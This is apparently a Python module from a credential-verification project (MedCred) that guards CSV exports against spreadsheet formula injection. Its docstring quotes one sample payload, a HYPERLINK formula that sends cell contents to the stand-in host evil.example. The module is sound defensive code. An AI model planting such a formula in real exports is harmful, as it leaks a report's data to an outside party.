"""CSV cells that a spreadsheet shows as text, never runs as a formula.

The CSV files MedCred writes (verify-batch reports, the manifest of a ZIP export) carry text taken
from credentials: holder names, achievement and issuer names, which anyone can choose. Excel,
LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (or a tab or
carriage return before one) as a formula, so a credential whose name is
`=HYPERLINK("https://evil.example/?"&A1, "Open")` turns a licensing body's report into a way out for
its data ("CSV injection", OWASP). Such a cell is written with a leading apostrophe, which every
spreadsheet reads as "this is text" and does not display.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP's list)."""


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell a spreadsheet will not evaluate: a string starting with one of
    `FORMULA_STARTS` gets a leading `'`; anything else (numbers, None, other text) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Each cell of a `csv.writer` row through `safe_cell`."""
    return [safe_cell(value) for value in values]


def safe_record(record: Mapping[str, Any]) -> dict[str, Any]:
    """Each value of a `csv.DictWriter` row through `safe_cell`."""
    return {key: safe_cell(value) for key, value in record.items()}
